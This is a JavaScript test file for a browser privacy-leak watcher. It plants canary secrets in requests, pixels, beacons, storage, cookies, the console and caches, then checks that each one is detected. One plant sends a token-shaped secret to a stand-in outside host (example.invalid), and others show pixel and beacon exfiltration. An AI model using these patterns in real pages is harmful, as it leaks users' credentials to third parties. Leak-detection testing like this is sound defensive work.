// The watcher of the privacy journeys can fail: a secret is planted in each place where a page could leave one.

import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { openBrowser } from './support/browser.mjs';
import { until } from './support/until.mjs';
import { openWatched } from './support/watch.mjs';

let browser, server, origin;

before(async () => {
  server = createServer((request, response) => {
    request.resume();
    response.setHeader('content-security-policy', "style-src 'none'");
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>plant</title><link rel="icon" href="data:,"><h1>Plant</h1>');
  });
  server.listen(0, '127.0.0.1');
  [browser] = await Promise.all([openBrowser(), once(server, 'listening')]);
  origin = `http://127.0.0.1:${server.address().port}`;
});
after(async () => {
  await browser?.close();
  server?.closeAllConnections();
  server?.close();
});

/** A watched page; `body` gets it with its watcher. */
async function onPlant(body) {
  const watched = await openWatched(browser);
  try {
    const page = await watched.context.newPage();
    await page.goto(origin);
    await body({ page, watched });
  } finally {
    await watched.close();
  }
}

/** A secret of this number, none like another. */
const secret = (number) =>
  `eyJhbGciOiJSUzI1NiJ9.canary-${number}-${'must-never-leave-this-page-'.repeat(2)}${number}.c2lnbmF0dXJl`;

const plants = [
  ['address of GET /x', (secret) => fetch(`/x?token=${secret}`)],
  ['address of GET /x', (secret) => fetch(`/x?token=${encodeURIComponent(btoa(`Bearer ${secret}`))}`)],
  ['headers of GET /x', (secret) => fetch('/x', { headers: { authorization: `Bearer ${secret}` } })],
  [
    'body of POST /x',
    (secret) => fetch('/x', { method: 'POST', body: JSON.stringify({ token: secret.slice(20, 70) }) }),
  ],
  ['body of POST /x', (secret) => fetch('/x', { method: 'POST', body: new Blob([secret]) })],
  [
    'address of GET /pixel',
    (secret) =>
      new Promise((done) => {
        const image = new Image();
        image.onload = image.onerror = done;
        image.src = `/pixel?${secret}`;
      }),
  ],
  ['address of GET /out', (secret) => fetch(`http://example.invalid/out?${secret}`).catch(() => {})],
  ['address bar', (secret) => history.replaceState(null, '', `#${secret}`)],
  ['history state', (secret) => history.replaceState({ secret }, '', '')],
  [
    'tab title',
    (secret) => {
      document.title = secret;
    },
  ],
  [
    'window name',
    (secret) => {
      window.name = secret;
    },
  ],
  ['local storage', (secret) => localStorage.setItem('last', secret)],
  ['session storage', (secret) => sessionStorage.setItem(secret, '')],
  [
    'cookies',
    (secret) => {
      document.cookie = `t=${secret}`;
    },
  ],
  ['console', (secret) => console.debug('pasted', secret)],
  [
    'console',
    (secret) => {
      setTimeout(() => {
        throw new Error(secret);
      });
      return new Promise((done) => setTimeout(done));
    },
  ],
  ['caches', async (secret) => (await caches.open('c')).put(`/cached?${secret}`, new Response(''))],
  [
    'indexed databases',
    (secret) =>
      new Promise((resolve, reject) => {
        const open = indexedDB.open('d', 1);
        open.onupgradeneeded = () => open.result.createObjectStore('s').put({ secret }, 1);
        open.onsuccess = () => {
          open.result.close();
          resolve();
        };
        open.onerror = () => reject(open.error);
      }),
  ],
];

test('a planted secret is found, wherever it is', () =>
  onPlant(async ({ page, watched }) => {
    for (const [number, [place, plant]] of plants.entries()) {
      await page.evaluate(plant, secret(number));
      const leaks = await watched.leaks(page, secret(number));
      assert.ok(
        leaks.includes(place),
        `${plant}\nleaves something in: ${place}\nfound: ${leaks.join(', ') || 'nothing'}`,
      );
    }
  }));

test('a beacon is found, though no page waits for it', () =>
  onPlant(async ({ page, watched }) => {
    await page.evaluate((secret) => navigator.sendBeacon('/beacon', secret), secret(0));
    await until(async () => assert.ok((await watched.leaks(page, secret(0))).includes('body of POST /beacon')));
  }));

test('what was not planted is not found', () =>
  onPlant(async ({ page, watched }) => {
    await page.evaluate((secret) => fetch(`/x?${secret}`), secret(0));
    assert.deepEqual(await watched.leaks(page, secret(0).split('').reverse().join('')), []);
  }));

test('a broken content security policy is seen', () =>
  onPlant(async ({ page, watched }) => {
    await page.evaluate(() =>
      document.body.append(Object.assign(document.createElement('style'), { textContent: 'h1 { color: red }' })),
    );
    await until(() => assert.equal(watched.violations().length, 1));
    assert.match(watched.violations()[0], /^style-src/);
  }));
